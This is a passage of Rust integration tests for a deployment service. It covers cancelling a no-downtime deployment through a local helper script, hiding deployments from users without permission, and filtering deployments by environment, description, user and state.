    stage.script("move", "#!/bin/sh\necho \"$1 $2\" >> \"$3\"\nwhile [ ! -e \"$4\" ]; do sleep 0.05; done\n");
    let arguments = |word: &str| {
        let text = |path: &PathBuf| Argument::Literal(path.to_str().unwrap().to_owned());
        let script = vec![
            Argument::Literal(word.to_owned()),
            Argument::Variable("name".to_owned()),
            text(&log),
            text(&gate),
        ];
        Some(Script { file: "move".to_owned(), arguments: script })
    };
    let configuration = Configuration {
        deployment_type: DeploymentType::NoDowntime,
        scripts: Scripts {
            disable_server: arguments("out"),
            enable_server: arguments("back"),
            ..Scripts::default()
        },
        ..Configuration::default()
    };
    stage.configure(environment, configuration).await;
    let first = [stage.revision("First", FIRST).await];
    stage.kit.start_planes().await;
    let run = stage.start(environment, &first).await;
    while !log.exists() {
        run_wait(&stage.kit.estate, &stage.ctx, RunRef::Id(run.id), &[], Duration::from_millis(20))
            .await
            .unwrap();
    }
    run_cancel(&stage.kit.estate, &stage.ctx, RunRef::Id(run.id), &[]).await.unwrap();
    // The engine learns of it with its next report.
    let sql = "SELECT count(*) FROM runs WHERE state = 'cancelling'";
    assert_eq!(stage.kit.number(sql).await, 1);
    run_wait(&stage.kit.estate, &stage.ctx, RunRef::Id(run.id), &[], Duration::from_millis(1_500))
        .await
        .unwrap();
    std::fs::write(&gate, "").unwrap();
    let ended = stage.ended(&run).await;
    assert_eq!(ended.deployment.state, Shown::Ended(State::Cancelled), "{ended:#?}");
    let moved = std::fs::read_to_string(&log).unwrap();
    assert_eq!(moved, "out s1\nback s1\n");
    assert_eq!((stage.version("s1").await, stage.version("s2").await), (0, 0));
    assert_eq!(stage.kit.run(&run).await.state, RunState::Cancelled);
}

async fn others_do_not_see_a_deployment(stage: &Stage) {
    let environment = stage.servers("production", &["s1"]).await;
    let first = [stage.revision("First", FIRST).await];
    let run = stage.start(environment, &first).await;
    let manage = Permission::new(DEPLOY_PRODUCTION, Action::MANAGE);
    let ann = person(stage, "ann", &DEPLOYER).await;
    let eve = person(stage, "eve", &[DEPLOYER[0], manage]).await;
    let list = async |ctx: &OpCtx| {
        deployment_list(&stage.plane, ctx, &DeploymentFilter::default(), Page::first(10)).await.unwrap().total
    };
    assert_eq!((list(&ann).await, list(&eve).await, list(&stage.ctx).await), (0, 1, 1));
    let hidden = deployment_progress(&stage.plane, &ann, run.id, None).await.unwrap_err();
    assert_eq!(hidden.kind, ErrorKind::NotFound);
    assert!(deployment_progress(&stage.plane, &eve, run.id, None).await.unwrap().is_some());
    // Not the revisions of others.
    let error = stage.try_start(&ann, environment, &first).await.unwrap_err();
    assert_eq!(error.kind, ErrorKind::NotFound);
    for (filter, total) in [
        (DeploymentFilter { environment: Some(environment), ..DeploymentFilter::default() }, 1),
        (DeploymentFilter { environment: Some(EnvironmentId(99)), ..DeploymentFilter::default() }, 0),
        (DeploymentFilter { description: Some("EEK".to_owned()), ..DeploymentFilter::default() }, 1),
        (DeploymentFilter { description: Some("%".to_owned()), ..DeploymentFilter::default() }, 0),
        (DeploymentFilter { user: Some("operator".to_owned()), ..DeploymentFilter::default() }, 1),
        (DeploymentFilter { user: Some("oper".to_owned()), ..DeploymentFilter::default() }, 0),
        (DeploymentFilter { states: vec![Shown::Queued], ..DeploymentFilter::default() }, 1),
        (DeploymentFilter { states: vec![Shown::Held, Shown::InProgress], ..DeploymentFilter::default() }, 0),
        (DeploymentFilter { states: vec![Shown::Ended(State::Ok)], ..DeploymentFilter::default() }, 0),
    ] {
        let found = deployment_list(&stage.plane, &stage.ctx, &filter, Page::first(10)).await.unwrap();
        assert_eq!(found.total, total, "{filter:?}");
    }
}
